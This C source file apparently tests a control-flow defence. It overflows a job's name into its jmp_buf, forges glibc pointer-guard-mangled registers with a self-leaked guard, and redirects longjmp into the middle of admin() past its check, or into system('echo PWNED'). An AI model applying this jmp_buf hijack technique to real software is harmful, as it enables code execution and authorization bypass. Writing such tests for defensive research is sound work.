/* A longjmp-buffer overwrite: a job keeps its error-recovery jmp_buf
 * right after its name, and an overflow of the name rewrites the saved
 * registers. glibc mangles the saved rsp, rbp and pc with the pointer
 * guard (PTR_MANGLE: xor fs:0x30, rol 17), so the attack needs the guard:
 * the program leaks it (as an info leak would), and the attacker forges
 * the saved pc. Two attacks:
 *   attack         the pc lands in the middle of admin(), past its check
 *                  (a jump from libc into the program, not to an entry);
 *   attack-system  the pc is libc's system(), the saved rsp a stack the
 *                  attacker prepared, and rdi (still &jmp_buf at the jump)
 *                  points at the command written over the saved rbx.
 * shepherd: jump (longjmp's demangled jump goes only to the instruction
 * after a call: setjmp's return). */
#include "common.h"
#include <setjmp.h>

struct job {
  char name[32];
  jmp_buf on_error;
};

/* What the attacker learns from an info leak. */
static uintptr_t leak_guard;

/* Privileged: only for authorized callers. */
__attribute__((noinline)) void admin(int authorized) {
  if (authorized != 0x5eC2e7) return;
  __asm__ volatile(".globl lj_admin_unchecked\nlj_admin_unchecked:");
  write(1, "PWNED\n", 6);
  _exit(42);
}
extern char lj_admin_unchecked[];

/* The program's pointer guard (glibc keeps it at fs:0x30). */
__attribute__((noinline)) static uintptr_t pointer_guard(void) {
  uintptr_t g;
  __asm__ volatile("mov %%fs:0x30, %0" : "=r"(g));
  return g;
}

/* glibc's PTR_MANGLE, done by the attacker with the leaked guard. */
static uintptr_t mangle(uintptr_t p) {
  p ^= leak_guard;
  return (p << 17) | (p >> 47);
}

/* The bug: copies n bytes of input into the 32-byte name. */
__attribute__((noinline)) static void set_name(struct job *j, const void *in, size_t n) {
  memcpy(j->name, in, n);
}

/* Runs the job; it fails, and recovers through its jmp_buf. */
__attribute__((noinline)) static void run(struct job *j) {
  printf("job %s: failing\n", j->name);
  fflush(stdout);
  longjmp(j->on_error, 1);
}

int main(int argc, char **argv) {
  int mode = argc == 2 && strcmp(argv[1], "attack-system") == 0 ? 2 : -1;
  if (mode < 0) mode = attack_mode(argc, argv);
  static char stack_space[1 << 16] __attribute__((aligned(16)));
  struct job *j = malloc(sizeof *j);
  leak_guard = pointer_guard();
  if (setjmp(j->on_error)) {
    puts("longjmp: recovered");
    return 0;
  }
  if (mode == 0) {
    set_name(j, "guest", 6);
  } else {
    /* the input: the name, then the jmp_buf's registers as they are,
     * but for the forged fields (__jmpbuf: rbx rbp r12 r13 r14 r15 rsp pc) */
    unsigned char in[32 + 8 * 8];
    uintptr_t regs[8];
    memset(in, 'A', 31);
    in[31] = 0;
    memcpy(regs, j->on_error[0].__jmpbuf, sizeof regs);
    if (mode == 1) {
      regs[7] = mangle((uintptr_t)lj_admin_unchecked);
    } else {
      void **sp = (void **)(stack_space + sizeof stack_space - 56);
      sp[0] = (void *)_exit;                /* system() returns into _exit() */
      memset(regs, 0, 3 * 8);
      strcpy((char *)regs, "echo PWNED");   /* rbx, rbp, r12: the command */
      regs[6] = mangle((uintptr_t)sp);
      regs[7] = mangle((uintptr_t)system);
    }
    memcpy(in + 32, regs, sizeof regs);
    set_name(j, in, sizeof in);
  }
  run(j);
  return 1;
}
